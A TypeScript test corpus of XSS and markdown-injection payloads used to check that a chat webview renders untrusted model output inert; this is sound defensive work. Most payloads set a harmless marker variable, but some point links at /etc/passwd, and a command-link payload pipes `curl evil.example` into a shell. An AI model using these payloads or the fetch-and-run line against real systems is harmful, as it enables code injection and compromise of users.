/**
 * XSS and markdown-injection payloads for the chat webview. Answers are untrusted model output;
 * every payload here must render inert in the real webview, whole and at every streamed prefix.
 *
 * Every payload that could run script tries to set `window.__pwned` (or `parent.__pwned` from a
 * frame) to its own name, and the DOM-clobbering ones name elements `__pwned`, so a run can tell
 * that nothing executed and which payload it would have been.
 */

export interface XssPayload {
  /** Unique, `[a-z0-9-]+`: it is also the value the payload tries to put in `window.__pwned`. */
  readonly name: string;
  readonly markdown: string;
}

/** `build` gets the script to run in the page (`js`) and in a child frame (`parentJs`). */
function payload(name: string, build: (js: string, parentJs: string) => string): XssPayload {
  return { name, markdown: build(`window.__pwned='${name}'`, `parent.__pwned='${name}'`) };
}

const base64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');

/** `&#NNN;` for every character of `text`. */
const decimalEntities = (text: string): string => Array.from(text, (c) => `&#${c.codePointAt(0)};`).join('');

/** `%XX` for every character of `text` (ASCII only). */
const percentEncoded = (text: string): string => Array.from(text, (c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

export const xssCorpus: readonly XssPayload[] = [
  // ------------------------------------------------------------------------------ raw <script>
  payload('script-raw', (js) => `<script>${js}</script>`),
  payload('script-uppercase', (js) => `<SCRIPT>${js}</SCRIPT>`),
  payload('script-mixed-case-attrs', (js) => `<ScRiPt type="text/javascript" nonce="">${js}</sCrIpT>`),
  payload('script-split-across-lines', (js) => `Before\n<scr\nipt>\n${js}\n</scr\nipt>\nafter\n\n<script\n>${js}</script\n>`),
  payload('script-split-by-comment', (js) => `<scr<!-- -->ipt>${js}</scr<!-- -->ipt><<script>script>${js}<</script>/script>`),
  payload('script-null-bytes', (js) => `<scr\u0000ipt>${js}</scr\u0000ipt> <script\u0000>${js}</script> \u0000<script>${js}</script>`),
  payload('script-src-data', (js) => `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`),
  payload('script-inside-markdown', (js) => `# Title <script>${js}</script>\n\n**bold <script>${js}</script>** and _em_\n\n> quoted <script>${js}</script>`),
  payload('script-html-block-then-markdown', (js) => `<div>\n<script>\n${js}\n</script>\n</div>\n\n- item <script>${js}</script>`),

  // -------------------------------------------------------------------------- event handlers
  payload('img-onerror', (js) => `<img src=x onerror="${js}">`),
  payload('img-onerror-slashes', (js) => `<img/src=x/onerror=${js}><IMG SRC=x ONERROR=${js}>`),
  payload('img-onload-https', (js) => `<img src="https://evil.example/p.png" onload="${js}">`),
  payload('svg-onload', (js) => `<svg onload="${js}"><circle r="1" /></svg>`),
  payload('svg-slash-onload', (js) => `<svg/onload=${js}>`),
  payload('body-onload', (js) => `<body onload="${js}" onpageshow="${js}">`),
  payload('details-ontoggle', (js) => `<details open ontoggle="${js}"><summary>x</summary></details>`),
  payload('video-onerror', (js) => `<video src=x onerror="${js}"></video><video><source onerror="${js}"></video>`),
  payload('audio-onerror', (js) => `<audio src=x onerror="${js}"></audio>`),
  payload('iframe-onload', (js) => `<iframe onload="${js}"></iframe>`),
  payload('input-autofocus-onfocus', (js) => `<input autofocus onfocus="${js}">`),
  payload('textarea-select-autofocus', (js) => `<textarea autofocus onfocus="${js}"></textarea><select autofocus onfocus="${js}"></select>`),
  payload('marquee-onstart', (js) => `<marquee onstart="${js}">x</marquee>`),
  payload('anchor-onclick', (js) => `<a href="https://ok.example" onclick="${js}" onmouseover="${js}">hover me</a>`),
  payload('animation-and-pointer-handlers', (js) => `<p style="animation:spin 1s" onanimationstart="${js}" onpointerenter="${js}" onfocusin="${js}" tabindex=0>x</p>`),
  payload('button-onclick', (js) => `<button onclick="${js}" autofocus onfocus="${js}">Run</button>`),

  // ----------------------------------------------------------------------- schemes in links
  payload('link-javascript', (js) => `[click me](javascript:${js})`),
  payload('link-javascript-mixed-case', (js) => `[click](JaVaScRiPt:${js})`),
  payload('link-javascript-entity-decimal', (js) => `[click](&#106;avascript:${js})`),
  payload('link-javascript-entity-full', (js) => `[click](${decimalEntities('javascript:')}${js})`),
  payload('link-javascript-entity-colon', (js) => `[click](javascript&colon;${js}) [two](javascript&#58;${js})`),
  payload('link-javascript-entity-tab', (js) => `[click](java&#x09;script:${js}) [nl](java&#10;script:${js})`),
  payload('link-javascript-percent', (js) => `[click](${percentEncoded('javascript')}:${js}) [colon](javascript%3A${js})`),
  payload('link-javascript-angle-brackets', (js) => `[click](<javascript:${js}>) [sp](<java script:${js}>)`),
  payload('link-javascript-control-chars', (js) => `[a](\u0001javascript:${js}) [b](<\u000bjavascript:${js}>) [c](java\u0000script:${js}) [d](javascript\u200b:${js})`),
  payload('link-javascript-leading-whitespace', (js) => `[a]( javascript:${js}) [b](<  javascript:${js}>) [c](&#32;javascript:${js})`),
  payload('link-javascript-backslash', (js) => `[a](javascript\\:${js}) [b](\\javascript:${js}) [c](javascript:\\u0061lert)`),
  payload('link-vbscript', () => `[x](vbscript:msgbox("pwned")) [y](VBScript:Execute)`),
  payload('link-data-html', (_js, parentJs) => `[x](data:text/html;base64,${base64(`<script>${parentJs}</script>`)}) [y](data:text/html,${encodeURIComponent(`<script>${parentJs}</script>`)})`),
  payload('link-command', () => '[open terminal](command:workbench.action.terminal.new)'),
  payload('link-command-arguments', () => '[x](command:vscode.open?%5B%22file%3A%2F%2F%2Fetc%2Fpasswd%22%5D) [y](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)'),
  payload('link-command-mixed-case', () => '[x](CoMmAnD:workbench.action.terminal.new) [y](&#99;ommand:workbench.action.reloadWindow)'),
  payload('link-vscode-and-file', () => '[clone](vscode://vscode.git/clone?url=https%3A%2F%2Fevil.example%2Frepo) [x](vscode-webview://x/index.html) [f](file:///etc/passwd) [w](file:///C:/Windows/System32/calc.exe)'),
  payload('link-relative-and-protocol-relative', () => '[a](//evil.example/path) [b](/etc/passwd) [c](../secret) [d](?q=1) [e](https:evil.example)'),

  // ----------------------------------------------------------------------------- autolinks
  payload('autolink-javascript', (js) => `<javascript:${js}> <JAVASCRIPT:${js}>`),
  payload('autolink-command', () => '<command:workbench.action.terminal.new> <command:workbench.action.openSettings>'),
  payload('autolink-data-vbscript-file', (_js, parentJs) => `<data:text/html,${encodeURIComponent(`<script>${parentJs}</script>`)}> <vbscript:msgbox(1)> <file:///etc/passwd> <vscode://file/etc/passwd>`),
  payload('linkify-bare-schemes', (js) => `see javascript:${js} or command:workbench.action.terminal.new or vscode://x/y, data:text/html,x and file:///etc/passwd`),
  payload('linkify-breakout', (js) => `https://ok.example/"><img src=x onerror=${js}> and www.evil.example/<script>${js}</script>`),

  // ---------------------------------------------------------------- reference-style and images
  payload('reference-javascript', (js) => `[click][evil]\n\n[evil]: javascript:${js}`),
  payload('reference-command-and-data', () => '[run][c] and [see][d]\n\n[c]: command:workbench.action.terminal.new "Run"\n[d]: <data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+>'),
  payload('reference-image-javascript', (js) => `![diagram][img]\n\n[img]: javascript:${js}`),
  payload('reference-title-breakout', (js) => `[click][r]\n\n[r]: https://ok.example "a\\" onmouseover=\\"${js}"`),
  payload('image-javascript-src', (js) => `![x](javascript:${js}) ![y](JAVASCRIPT:${js})`),
  payload('image-data-svg', (js) => `![x](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)})`),
  payload('image-alt-breakout', (js) => `![a" onerror="${js}](https://evil.example/x.png) ![<img src=x onerror=${js}>](https://evil.example/y.png)`),
  payload('image-title-breakout', (js) => `![a](https://evil.example/x.png "t\\" onerror=\\"${js}")`),
  payload('image-tracking-pixel', () => '![pixel](https://evil.example/pixel.gif?u=1) ![](http://evil.example/empty-alt.png)'),
  payload('link-title-breakout', (js) => `[a](https://ok.example "t\\" onclick=\\"${js}") [b](https://ok.example 't\\' onclick=\\'${js}') [c](https://ok.example (t" onclick="${js}))`),
  payload('link-href-quote-breakout', (js) => `[x](https://ok.example/"onmouseover="${js}) [y](<https://ok.example/" onfocus="${js}" autofocus x=">)`),
  payload('link-text-html', (js) => `[<img src=x onerror=${js}>](https://ok.example) [**<script>${js}</script>**](https://ok.example)`),

  // ---------------------------------------------------------------------------- SVG, MathML
  payload('svg-use-href', (js) => `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${js}"/></svg>`)}#x" /></svg>`),
  payload('svg-animate-href', (js) => `<svg><a><animate attributeName="href" values="javascript:${js}" /><text x="20" y="20">click</text></a></svg>`),
  payload('svg-set-handler', (js) => `<svg><set attributeName="onmouseover" to="${js}" /><animate onbegin="${js}" attributeName="x" dur="1s" /></svg>`),
  payload('svg-foreignobject', (_js, parentJs) => `<svg><foreignObject><iframe srcdoc="<script>${parentJs}</script>"></iframe><img src=x onerror="${parentJs.replace('parent.', 'window.')}"></foreignObject></svg>`),
  payload('svg-script-xlink', (js) => `<svg><script xlink:href="data:,${js}"></script><script href="data:,${js}"></script></svg>`),
  payload('math-xlink-href', (js) => `<math><mi xlink:href="javascript:${js}">x</mi><maction actiontype="statusline" xlink:href="javascript:${js}">y</maction></math>`),
  payload('math-mglyph-style-mxss', (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}"></style></mglyph></table></mtext></math>`),

  // -------------------------------------------------------------------------- CSS injection
  payload('style-tag-hide-and-fetch', () => '<style>body { display: none } * { background: url(https://evil.example/x) }</style>'),
  payload('style-tag-import', () => "<style>@import 'https://evil.example/x.css'; @import url(javascript:alert(1));</style>"),
  payload('style-tag-url-javascript', (js) => `<style>body{background:url("javascript:${js}")}</style>`),
  payload('style-attr-overlay', () => '<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/t)">overlay</div>'),
  payload('style-attr-expression', (js) => `<div style="width:expression(${js})">x</div><p STYLE="xss:expr/**/ession(${js})">y</p>`),
  payload('style-attr-url-javascript', (js) => `<span style="background-image:url(javascript:${js});behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">z</span>`),
  payload('style-in-table-cell', () => '| x |\n|:-:|\n| <span style="color:red">y</span> |'),

  // ---------------------------------------------------- document-level and embedding elements
  payload('base-href', (js) => `<base href="javascript:${js}//">[relative](x) <base href="https://evil.example/">`),
  payload('meta-refresh', (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}"><meta http-equiv="refresh" content="0;url=https://evil.example">`),
  payload('form-action', (js) => `<form action="javascript:${js}"><input name=q value=x><button>go</button></form>`),
  payload('form-formaction', (js) => `<form><button formaction="javascript:${js}">x</button><input type=submit formaction="javascript:${js}" autofocus></form>`),
  payload('object-embed', (_js, parentJs) => `<object data="javascript:${parentJs}"></object><embed src="data:text/html;base64,${base64(`<script>${parentJs}</script>`)}"><object data="https://evil.example/x.swf"></object>`),
  payload('link-rel-import', (_js, parentJs) => `<link rel=import href="data:text/html,${encodeURIComponent(`<script>${parentJs}</script>`)}"><link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/">`),
  payload('iframe-javascript-src', (_js, parentJs) => `<iframe src="javascript:${parentJs}"></iframe>`),
  payload('iframe-srcdoc', (_js, parentJs) => `<iframe srcdoc="<script>${parentJs}</script>"></iframe><iframe srcdoc="&lt;img src=x onerror=${parentJs}&gt;"></iframe>`),

  // ------------------------------------------------------------------- template-ish injection
  payload('template-injection', (js) => `{{constructor.constructor("${js}")()}} \${${js}} <%= ${js} %> {{$on.constructor('${js}')()}} #{${js}}`),

  // ------------------------------------------------------------------------- code fences
  payload('fence-info-breakout', (js) => `\`\`\`js" onmouseover="${js}\nalert(1)\n\`\`\``),
  payload('fence-info-html', (js) => `\`\`\`<img src=x onerror=${js}> "><script>${js}</script>\ncode\n\`\`\``),
  payload('fence-content-closing-tags', (js) => `\`\`\`\n</code></pre><script>${js}</script><pre><code>\n\`\`\``),
  payload('fence-html-inside', (js) => `\`\`\`html\n<script>${js}</script>\n<img src=x onerror="${js}">\n\`\`\``),
  payload('fence-unclosed-html', (js) => `Look:\n\n\`\`\`xml\n<svg onload="${js}"><script>${js}</script>`),
  payload('fence-unclosed-tilde', (js) => `~~~html\n<img src=x onerror="${js}">\n<iframe src="javascript:${js}"></iframe>`),
  payload('fence-longer-fence-unclosed', (js) => `\`\`\`\`md\n\`\`\`\n<img src=x onerror="${js}">\n\`\`\`\n<script>${js}</script>`),
  payload('fence-in-quote-and-list', (js) => `> \`\`\`html\n> <img src=x onerror="${js}">\n> \`\`\`\n\n- \`\`\`\n  <script>${js}</script>\n  \`\`\`\n- <b onclick="${js}">x</b>`),
  payload('fence-closed-then-html', (js) => `\`\`\`\ncode\n\`\`\`\n<img src=x onerror="${js}">\n\`\`\`js\n<script>${js}</script>`),
  payload('indented-code-html', (js) => `Text\n\n    <script>${js}</script>\n    <img src=x onerror="${js}">\n\nafter`),
  payload('inline-code-html', (js) => `\`<img src=x onerror=${js}>\` and \`\`<script>${js}</script>\`\``),

  // ------------------------------------------------------------------ HTML inside markdown
  payload('emphasis-around-html', (js) => `*<img src=x onerror=${js}>* and __<script>${js}</script>__ ~~<svg onload=${js}>~~`),
  payload('table-cell-html', (js) => `| a | b |\n|---|:-:|\n| <img src=x onerror=${js}> | <b onclick="${js}">x</b> |`),
  payload('heading-and-quote-html', (js) => `## <img src=x onerror=${js}>\n\n> <svg onload=${js}>\n\nSetext <a href=javascript:${js}>x</a>\n===`),
  payload('raw-anchor-javascript', (js) => `<a href="javascript:${js}">x</a> <a href="&#106;avascript:${js}">y</a> <a href=" javascript:${js}">z</a>`),
  payload('html-comment-breakout', (js) => `<!-- --><img src=x onerror="${js}"> --> <!--><script>${js}</script>-->`),
  payload('cdata-breakout', (js) => `<![CDATA[><img src=x onerror="${js}">]]> <?xml ?><img src=x onerror="${js}">`),
  payload('encoded-entities', (js) => `&lt;script&gt;${js}&lt;/script&gt; &#60;img src=x onerror=${js}&#62; &#x3C;svg onload=${js}&#x3E;`),
  payload('unicode-lookalikes', (js) => `\uFF1Cscript\uFF1E${js}\uFF1C/script\uFF1E [\u202Egnp.exe](javascript:${js}) \u2028<img src=x onerror=${js}>`),

  // ----------------------------------------------------------------- mutation-XSS classics
  payload('mxss-noscript-title', (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`),
  payload('mxss-svg-style', (js) => `<svg><style><img src=x onerror=${js}></style></svg>`),
  payload('mxss-form-math', (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`),
  payload('mxss-rcdata-elements', (js) => `<title><img src=x onerror=${js}></title><textarea><img src=x onerror=${js}></textarea><xmp><img src=x onerror=${js}></xmp>`),
  payload('mxss-template-and-select', (js) => `<template><img src=x onerror=${js}></template><select><template><img src=x onerror=${js}></template></select>`),
  payload('mxss-namespace-confusion', (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`),

  // --------------------------------------------------------------------- DOM clobbering
  payload('clobber-proto', () => '<a id=__proto__ href=#>x</a><a id=__proto__ name=__proto__>y</a><form id=__proto__></form>'),
  payload('clobber-pwned-by-name', () => '<img name=__pwned src=x><form name=__pwned></form><embed name=__pwned><object name=__pwned></object>'),
  payload('clobber-pwned-by-id', () => '<a id=__pwned href="https://ok.example">x</a><div id=__pwned></div><span id="__pwned">y</span>'),
  payload('clobber-document-apis', () => '<img name=getElementById><form name=querySelector></form><a id=acquireVsCodeApi>a</a><img name=cookie><form id=location name=location></form>'),

  // -------------------------------------------------------------------------- very long
  payload('long-many-vectors', (js) =>
    Array.from({ length: 12 }, (_, i) => `<img src=x${i} onerror="${js}"> [l${i}](javascript:${js}) <svg onload=${js}>`).join(' ')),
  payload('long-link-destination', (js) => `[x](javascript:/*${'A'.repeat(700)}*/${js}) tail`),
  payload('long-deep-nesting', (js) => `${'> '.repeat(60)}${'- '.repeat(40)}<img src=x onerror="${js}"> [x](javascript:${js})`),
];
